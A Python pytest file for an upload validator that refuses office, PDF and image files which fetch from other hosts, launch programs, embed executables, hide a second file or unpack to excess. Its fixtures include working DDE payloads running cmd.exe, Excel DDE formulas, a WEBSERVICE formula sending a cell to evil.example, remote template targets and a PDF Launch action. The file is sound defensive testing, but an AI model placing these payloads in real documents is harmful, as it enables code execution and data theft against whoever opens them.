"""Evidence is one whole file of its kind: it starts nothing, fetches nothing, and is no second file besides."""

import io
import struct
from typing import Any

import pytest
from docx import Document

from indicators.office.files.contents import Refuse, leads_elsewhere, require_whole
from tests import uploads
from tests.fixture_files import FIXTURES
from tests.indicators.excel.workbooks import good
from tests.uploads import JPEG, PDF, PNG, packed

RELATIONS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document><w:body/></w:document>"}
XLSX = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
WHOLE = {"pdf": PDF, "png": PNG, "jpeg": JPEG, "docx": uploads.DOCX, "xlsx": uploads.XLSX, "ofd": uploads.OFD}


def refusal(kind: str, content: bytes) -> str:
    with pytest.raises(Refuse) as refused:
        require_whole(content, kind)
    return str(refused.value)


def docx(more: dict[str, Any]) -> bytes:
    return packed(DOCX | more)


def xlsx(more: dict[str, Any]) -> bytes:
    return packed(XLSX | more)


def relation(kind: str, target: str) -> str:
    said = f'Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"'
    return f"<Relationships><Relationship {said}/></Relationships>"


def document(body: str) -> dict[str, str]:
    return {"word/document.xml": f"<w:document><w:body><w:p>{body}</w:p></w:body></w:document>"}


def field(*pieces: str) -> str:
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


@pytest.mark.parametrize("kind", WHOLE)
def test_a_whole_file_is_taken(kind: str) -> None:
    require_whole(WHOLE[kind], kind)


@pytest.mark.parametrize("kind", WHOLE)
@pytest.mark.parametrize("kept", [5, 0.5])
def test_a_file_that_breaks_off_is_refused(kind: str, kept: float) -> None:
    content = WHOLE[kind]
    assert refusal(kind, content[: int(kept if kept > 1 else len(content) * kept)]).endswith("。")


# ── what fetches from another host ─────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("target", "leads"),
    [
        ("http://evil.example/t.dotm", True),
        ("HTTPS://evil.example/t.dotm", True),
        ("\\\\10.0.0.9\\share\\t.dotm", True),
        ("//10.0.0.9/share/t.dotm", True),
        ("file://10.0.0.9/share/t.dotm", True),
        ("file:////10.0.0.9/share/t.dotm", True),
        ("file:///%5C%5C10.0.0.9/share/t.dotm", True),
        ("mhtml:http://evil.example/a", True),
        ("&#104;ttp://evil.example/", True),
        ("ftp:evil", True),
        ("file:///C:/Users/li/Normal.dotm", False),
        ("C:\\Users\\li\\Normal.dotm", False),
        ("Normal.dotm", False),
        ("../台账/2020.xlsx", False),
        ("", False),
    ],
)
def test_another_host_is_told_from_ones_own_disk(target: str, leads: bool) -> None:
    assert leads_elsewhere(target) is leads


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument"])
def test_a_document_that_fetches_from_another_host_is_refused(kind: str) -> None:
    assert "到别处取内容" in refusal("docx", docx({RELATIONS: relation(kind, "http://evil.example/t.dotm")}))


def test_a_template_on_ones_own_disk_and_a_hyperlink_are_ordinary() -> None:
    require_whole(docx({RELATIONS: relation("attachedTemplate", "file:///C:/Templates/公文.dotx")}), "docx")
    require_whole(docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://www.gov.cn/")}), "docx")


@pytest.mark.parametrize(
    "code",
    [
        'INCLUDEPICTURE "http://evil.example/a.png" \\d',
        'INCLUDETEXT "\\\\\\\\10.0.0.9\\\\share\\\\a.docx"',
        "LINK Excel.Sheet.12 http://evil.example/a.xlsx",
    ],
)
def test_a_field_that_fetches_from_another_host_is_refused(code: str) -> None:
    assert "到别处取内容" in refusal("docx", docx(document(field(code))))


def test_a_formula_that_fetches_is_refused() -> None:
    sheet = '<c r="A1"><f>WEBSERVICE("http://evil.example/?"&amp;A2)</f></c>'
    assert "到别处取内容" in refusal("xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet}))


# ── what starts a program ──────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "body",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
        field("D", "DE", "AUTO cmd"),
        field(" dde cmd "),
        field("&#68;DE cmd"),
        field("DD<!-- -->E cmd"),
        field("<![CDATA[DDE cmd]]>"),
        '<w:fldSimple w:instr=" DDEAUTO cmd ">',
        "<w:fldSimple w:instr='&quot;DDE&quot; cmd'>",
        field("PAGE") + field("DDE cmd"),
    ],
)
def test_a_field_that_starts_a_program_is_refused(body: str) -> None:
    assert "启动其他程序" in refusal("docx", docx(document(body)))


def test_a_field_in_a_footer_is_read_too() -> None:
    assert "启动其他程序" in refusal("docx", docx({"word/footer2.xml": f"<w:ftr>{field('DDE cmd')}</w:ftr>"}))


@pytest.mark.parametrize(
    "part",
    [
        {"xl/worksheets/sheet1.xml": "<c r='A1'><f>cmd|'/c calc'!A1</f></c>"},
        {
            "xl/worksheets/sheet1.xml": "<x:c r='A1'><x:f t='array' ref='A1'>IF(1,msexcel|'\\..\\cmd.exe'!A1)</x:f></x:c>"
        },
        {"xl/workbook.xml": "<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>"},
        {
            "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
        },
    ],
)
def test_a_formula_that_starts_a_program_is_refused(part: dict[str, str]) -> None:
    assert "启动其他程序" in refusal("xlsx", xlsx(part))


@pytest.mark.parametrize(
    "name",
    ["word/embeddings/oleObject1.bin", "word/media/说明.exe", "word/a.js", "word/vbaProject.bin", "customXml/开始.lnk"],
)
def test_a_program_inside_is_known_by_its_name(name: str) -> None:
    assert "嵌入的程序" in refusal("docx", docx({name: "x"}))


@pytest.mark.parametrize("start", [b"MZ\x90\0", b"\x7fELF", b"#!/bin/sh", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"])
@pytest.mark.parametrize("kind", ["docx", "xlsx", "ofd"])
def test_a_program_inside_is_known_by_its_beginning_whatever_it_is_called(kind: str, start: bytes) -> None:
    heart = {"docx": DOCX, "xlsx": XLSX, "ofd": {"OFD.xml": "<ofd/>"}}[kind]
    assert "嵌入的程序" in refusal(kind, packed(heart | {"media/image1.png": start + b"\0" * 200}))


def test_the_workbook_behind_a_chart_is_looked_at_like_its_document() -> None:
    require_whole(docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": packed(XLSX)}), "docx")
    hidden = packed(XLSX | {"xl/vbaProject.bin": "x"})
    assert "嵌入的程序" in refusal("docx", docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": hidden}))


def test_a_pdf_that_starts_a_program_is_refused() -> None:
    action = b"/OpenAction << /S /Launch /F (cmd.exe) >> "
    assert "启动其他程序" in refusal("pdf", PDF.replace(b"/Type /Catalog ", b"/Type /Catalog " + action))


# ── two files in one ───────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("kind", ["pdf", "png", "jpeg"])
def test_a_folder_packed_behind_another_file_is_refused(kind: str) -> None:
    assert "夹着另一种文件" in refusal(kind, WHOLE[kind] + packed({"a.class": "x"}))


@pytest.mark.parametrize("second", [b"%PDF-1.4", b"<html><script>", b"<?php", b"<!DOCTYPE html>"])
@pytest.mark.parametrize("kind", ["pdf", "png", "jpeg"])
def test_a_page_or_a_pdf_near_the_beginning_is_a_second_file(kind: str, second: bytes) -> None:
    content = WHOLE[kind]
    assert "夹着另一种文件" in refusal(kind, content[:30] + second + content[30:])


@pytest.mark.parametrize("kind", ["docx", "xlsx", "ofd"])
def test_a_pdf_inside_a_packed_folder_is_a_second_file(kind: str) -> None:
    heart = {"docx": DOCX, "xlsx": XLSX, "ofd": {"OFD.xml": "<ofd/>"}}[kind]
    assert "夹着另一种文件" in refusal(kind, packed({"a.txt": PDF} | heart))


def test_whatever_follows_or_precedes_a_packed_folder_is_a_second_file() -> None:
    assert "夹着另一种文件" in refusal("docx", uploads.DOCX + b"MZ")
    assert "夹着另一种文件" in refusal("docx", packed({"first.txt": "x"}) + uploads.DOCX)
    assert "夹着另一种文件" in refusal("png", PNG + b"MZ")


def test_one_folder_that_is_two_documents_is_neither() -> None:
    assert "与扩展名不符" in refusal("docx", packed(DOCX | XLSX))


def test_a_folder_inside_a_folder_is_a_second_file() -> None:
    assert "夹着另一种文件" in refusal("ofd", packed({"OFD.xml": "<ofd/>", "Attachs/a.dat": packed({"x": "y"})}))


# ── on a budget ────────────────────────────────────────────────────────────────────────────────────────────


def test_what_would_unpack_beyond_measure_is_refused_before_it_is() -> None:
    content = docx({"word/media/a.bmp": b"\0" * 70_000})
    huge = content.replace(struct.pack("<II", 70_000, 70_000), struct.pack("<II", 70_000, 2**31))
    assert "解压后过大" in refusal("docx", huge)


@pytest.mark.parametrize(
    "text",
    [
        b"<!DOCTYPE x [<!ENTITY d 'DDE'>]><w:document/>",
        b"<!--" + b" " * 9000 + b"--><!DOCTYPE x []><w:document/>",
        "<?xml version='1.0'?><w/>".encode("utf-16-le"),
        b"<?xml version='1.0' encoding='cp037'?><w/>",
        b"\xff\xfe\x00",
        b"\xff",
    ],
)
def test_xml_that_no_office_program_writes_is_refused(text: bytes) -> None:
    assert refusal("docx", docx({"word/document.xml": text})).endswith("。")


def test_what_programs_write_is_taken() -> None:
    word = io.BytesIO()
    Document().save(word)
    require_whole(word.getvalue(), "docx")
    require_whole(good(), "xlsx")
    require_whole((FIXTURES / "demo" / "evidence.pdf").read_bytes(), "pdf")


def test_a_phones_picture_with_a_film_behind_it_is_taken() -> None:
    require_whole(JPEG + b"\0\0\0\x18ftypmp42" + b"\0" * 100, "jpeg")
